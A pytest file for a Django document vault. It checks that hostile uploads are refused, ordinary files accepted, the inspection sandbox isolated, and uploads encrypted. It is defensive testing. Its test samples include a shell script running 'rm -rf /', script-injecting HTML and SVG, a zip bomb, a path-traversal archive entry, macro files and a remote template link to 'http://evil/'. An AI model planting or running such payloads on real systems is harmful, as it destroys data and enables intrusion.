"""Hostile files are refused or made harmless; the sandbox sees nothing of the installation."""

import io
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadhandler import StopUpload

from gongyou.vault.files.inspection import inspect, sandbox, sandboxed
from gongyou.vault.files.media import incoming_folder
from gongyou.vault.files.refusals import Refused
from gongyou.vault.installation import data_folder
from gongyou.vault.uploads import EncryptedUploadHandler
from tests.vault import samples


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", bytes(30_000_000))
    return out.getvalue()


HOSTILE = {
    "a page with a script": (lambda: b"<html><script>alert(1)</script></html>", "type"),
    "a drawing with a script": (lambda: b"<?xml version='1.0'?><svg onload='x()'/>", "type"),
    "a program": (lambda: Path(sys.executable).read_bytes()[:200_000], "type"),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "type"),
    "a picture of a billion pixels": (
        lambda: samples.png_claiming(40_000, 40_000),
        "too_many_pixels",
    ),
    "half a picture": (lambda: samples.jpeg((800, 800))[:900], "broken"),
    "a locked pdf": (lambda: samples.pdf(password="x"), "encrypted"),
    "a broken pdf": (lambda: b"%PDF-1.7\nnothing of the kind", "broken"),
    "a bomb": (bomb, "archive"),
    "an archive in a document": (
        lambda: samples.with_entry(samples.docx(), "a.zip", b"PK"),
        "archive",
    ),
    "a path that climbs out": (
        lambda: samples.with_entry(samples.docx(), "../../x", b"x"),
        "archive",
    ),
    "a plain zip": (lambda: samples.zip_of(**{"a.txt": b"hi"}), "type"),
    "a document with a macro": (
        lambda: samples.with_entry(samples.docx(), "word/vbaProject.bin", b"x"),
        "macros",
    ),
    "a macro workbook renamed": (
        lambda: samples.edited(
            samples.xlsx(),
            "[Content_Types].xml",
            b"spreadsheetml.sheet.main+xml",
            b"spreadsheetml.sheet.macroEnabled.main+xml",
        ),
        "macros",
    ),
    "a document with a far template": (
        lambda: samples.edited(
            samples.docx(),
            "word/_rels/document.xml.rels",
            b"</Relationships>",
            b'<Relationship Id="r9" Type="x/attachedTemplate" Target="http://evil/" '
            b'TargetMode="External"/></Relationships>',
        ),
        "macros",
    ),
    "a document with entities": (
        lambda: samples.edited(
            samples.docx(),
            "word/document.xml",
            b"<w:document ",
            b'<!DOCTYPE a [<!ENTITY b "b">]><w:document ',
        ),
        "macros",
    ),
    "nothing": (lambda: b"", "empty"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason(what):
    make, code = HOSTILE[what]
    with pytest.raises(Refused) as refused:
        inspect(make())
    assert refused.value.code == code
    assert len(refused.value.message) > 10


GOOD = {
    "jpeg": (samples.jpeg, "image/jpeg"),
    "png": (samples.png, "image/png"),
    "pdf": (samples.pdf, "application/pdf"),
    "docx": (
        samples.docx,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "xlsx": (samples.xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "text": (lambda: "工资 三月 3200 元\n".encode() * 5, "text/plain"),
    "gbk": (lambda: "工资 三月 三千二百元\n".encode("gbk") * 5, "text/plain"),
}


@pytest.mark.parametrize("kind", GOOD)
def test_ordinary_files_are_accepted_by_their_content(kind):
    make, media_type = GOOD[kind]
    assert inspect(make()).media_type == media_type


@pytest.mark.skipif(not sandboxed(), reason="bubblewrap cannot run on this machine")
def test_the_sandbox_sees_no_data_and_no_network():
    probe = (
        "import os,socket,sys\n"
        f"assert not os.path.exists({str(data_folder())!r})\n"
        "try: socket.create_connection(('1.1.1.1', 53), 1)\n"
        "except OSError: pass\n"
        "else: sys.exit('network')\n"
        "try: open('/usr/x', 'w')\n"
        "except OSError: pass\n"
        "else: sys.exit('writable')\n"
        "assert 'GONGYOU_DATABASE_KEY' not in os.environ\n"
    )
    done = subprocess.run(
        [*sandbox(), sys.executable, "-I", "-c", probe], capture_output=True, check=False
    )
    assert done.returncode == 0, done.stderr


def receive(content: bytes, size: int = 64 * 1024):
    handler = EncryptedUploadHandler()
    handler.new_file("file", "李小红.bin", "text/html", len(content))
    for start in range(0, len(content), size):
        handler.receive_data_chunk(content[start : start + size], start)
    return handler.file_complete(len(content))


def test_a_large_upload_lies_encrypted_while_it_waits():
    content = b"Canary Wang " * 400_000
    upload = receive(content)
    (waiting,) = list(incoming_folder().iterdir())
    assert b"Canary" not in waiting.read_bytes()
    assert b"".join(upload.chunks()) == content
    upload.seek(1_000_000)
    assert upload.read(24) == content[1_000_000:1_000_024]
    assert upload.content_type == "application/octet-stream"
    upload.close()
    assert not list(incoming_folder().iterdir())


def test_a_small_upload_never_touches_the_disk():
    upload = receive(b"Canary")
    assert not list(incoming_folder().iterdir())
    assert upload.read() == b"Canary"


def test_an_upload_beyond_the_limit_is_stopped(settings):
    settings.GONGYOU = {**settings.GONGYOU, "UPLOAD_MEGABYTES": 1}
    with pytest.raises(StopUpload):
        receive(bytes(2_000_000))
    assert not list(incoming_folder().iterdir())
